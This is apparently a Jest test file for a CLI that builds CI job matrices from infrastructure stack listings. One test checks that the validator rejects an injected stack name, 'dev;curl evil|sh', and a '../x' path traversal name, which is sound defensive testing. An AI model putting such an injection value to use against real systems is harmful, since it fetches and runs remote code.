import { AutomockStack, buildApp } from '@automock/stacks';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { main } from './cli';
import { roleVariable, stackMatrix } from './stack-matrix';

const listing = [
  {
    name: 'dev-petstore',
    kind: 'project',
    environment: 'dev',
    project: 'petstore',
    region: 'us-east-1',
  },
  { name: 'bootstrap-us-east-1', kind: 'bootstrap', region: 'us-east-1' },
  { name: 'staging-eu', kind: 'environment', environment: 'staging-eu', region: 'eu-west-1' },
  { name: 'dev', kind: 'environment', environment: 'dev', region: 'us-east-1' },
];

describe('stackMatrix', () => {
  test('environment stacks before project stacks, bootstrap left out with the reason', () => {
    const m = stackMatrix(listing);
    expect(m.include.map((e) => e.stack)).toEqual(['dev', 'staging-eu', 'dev-petstore']);
    expect(m.include[1]).toEqual({
      stack: 'staging-eu',
      kind: 'environment',
      environment: 'staging-eu',
      env_key: 'STAGING_EU',
      region: 'eu-west-1',
    });
    expect(m.skipped).toEqual([
      { stack: 'bootstrap-us-east-1', reason: expect.stringMatching(/automock bootstrap/) },
    ]);
  });

  test('filters by environment and accepts { stacks: [...] }', () => {
    expect(
      stackMatrix({ stacks: listing }, { environment: 'dev' }).include.map((e) => e.stack),
    ).toEqual(['dev', 'dev-petstore']);
    expect(stackMatrix([]).include).toEqual([]);
  });

  test('role variables are named from the environment', () => {
    expect(roleVariable('plan', 'staging-eu')).toBe('AUTOMOCK_PLAN_ROLE_ARN_STAGING_EU');
    expect(roleVariable('apply', 'prod')).toBe('AUTOMOCK_APPLY_ROLE_ARN_PROD');
  });

  test('refuses names that are unsafe as paths, artifact names or shell words, naming the entry', () => {
    expect(() => stackMatrix([{ ...listing[0], name: 'dev;curl evil|sh' }])).toThrow(
      /stack list\[0\]\.name: got "dev;curl evil\|sh"/,
    );
    expect(() => stackMatrix([{ ...listing[0], name: '../x' }])).toThrow(/name/);
    expect(() => stackMatrix([{ name: 'dev-x', kind: 'project', region: 'us-east-1' }])).toThrow(
      /environment: got undefined/,
    );
    expect(() => stackMatrix('nope')).toThrow(
      /must be the JSON array printed by `automock stacks --json`/,
    );
  });

  test("works on the app's real stack list (what `automock stacks --json` returns)", () => {
    const outdir = mkdtempSync(path.join(tmpdir(), 'matrix-'));
    try {
      const infos = AutomockStack.all(buildApp({ outdir })).map((s) => s.info);
      const m = stackMatrix(JSON.parse(JSON.stringify(infos)));
      expect(m.include.length + m.skipped.length).toBe(infos.length);
      expect(m.include.map((e) => e.stack)).toEqual(
        expect.arrayContaining(['dev', 'staging', 'prod']),
      );
      expect(m.skipped.every((s) => s.stack.startsWith('bootstrap-'))).toBe(true);
      for (const e of m.include) expect(e.region).toMatch(/^[a-z]{2}-[a-z]+-\d$/);
    } finally {
      rmSync(outdir, { recursive: true, force: true });
    }
  });
});

describe('automock-stack-matrix', () => {
  const run = async (argv: string[], stdin: string, env: NodeJS.ProcessEnv = {}) => {
    const out: string[] = [];
    const err: string[] = [];
    const code = await main(argv, env, {
      stdout: (s) => void out.push(s),
      stderr: (s) => void err.push(s),
      stdin: async () => stdin,
    });
    return { code, out: out.join(''), err: err.join('') };
  };

  test('github format appends matrix, count and jobs to $GITHUB_OUTPUT, writes the batch files, notes skipped stacks', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'gh-out-'));
    try {
      const file = path.join(dir, 'out');
      const r = await run(
        ['--format', 'github', '--out-dir', path.join(dir, 'batches')],
        JSON.stringify(listing),
        { GITHUB_OUTPUT: file },
      );
      expect(r.code).toBe(0);
      const lines = readFileSync(file, 'utf8').trim().split('\n');
      expect(JSON.parse(lines[0]!.replace(/^matrix=/, ''))).toEqual({
        include: [
          {
            batch: 'b001',
            name: 'dev',
            environment: 'dev',
            env_key: 'DEV',
            region: 'us-east-1',
            stacks: 1,
            resources: 1,
          },
          {
            batch: 'b002',
            name: 'dev-petstore',
            environment: 'dev',
            env_key: 'DEV',
            region: 'us-east-1',
            stacks: 1,
            resources: 1,
          },
          {
            batch: 'b003',
            name: 'staging-eu',
            environment: 'staging-eu',
            env_key: 'STAGING_EU',
            region: 'eu-west-1',
            stacks: 1,
            resources: 1,
          },
        ],
      });
      expect(lines.slice(1)).toEqual(['count=3', 'jobs=3']);
      expect(JSON.parse(readFileSync(path.join(dir, 'batches', 'stacks.json'), 'utf8'))).toEqual([
        { stack: 'dev', kind: 'environment', environment: 'dev', batch: 'b001' },
        { stack: 'staging-eu', kind: 'environment', environment: 'staging-eu', batch: 'b003' },
        { stack: 'dev-petstore', kind: 'project', environment: 'dev', batch: 'b002' },
      ]);
      expect(
        JSON.parse(readFileSync(path.join(dir, 'batches', 'batches.json'), 'utf8')).batches.map(
          (b: { id: string; stacks: string[] }) => [b.id, b.stacks],
        ),
      ).toEqual([
        ['b001', ['dev']],
        ['b002', ['dev-petstore']],
        ['b003', ['staging-eu']],
      ]);
      expect(r.err).toContain('::notice title=stack not planned::bootstrap-us-east-1');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  test('lines format lists one environment in apply order; --kind keeps one kind', async () => {
    expect((await run(['--format', 'lines', '--env', 'dev'], JSON.stringify(listing))).out).toBe(
      'dev\ndev-petstore\n',
    );
    expect(
      (
        await run(
          ['--format', 'lines', '--env', 'dev', '--kind', 'project'],
          JSON.stringify(listing),
        )
      ).out,
    ).toBe('dev-petstore\n');
  });

  test('--help prints the usage generated from the options', async () => {
    const r = await run(['--help'], '');
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/^Usage: automock-stack-matrix \[options\]/);
    expect(r.out).toContain('--max-jobs N');
  });

  test('bad input and bad flags fail with a message', async () => {
    expect((await run([], 'not json')).code).toBe(1);
    expect((await run(['--format', 'yaml'], '[]')).code).toBe(2);
    expect((await run(['--nope'], '[]')).code).toBe(2);
  });
});
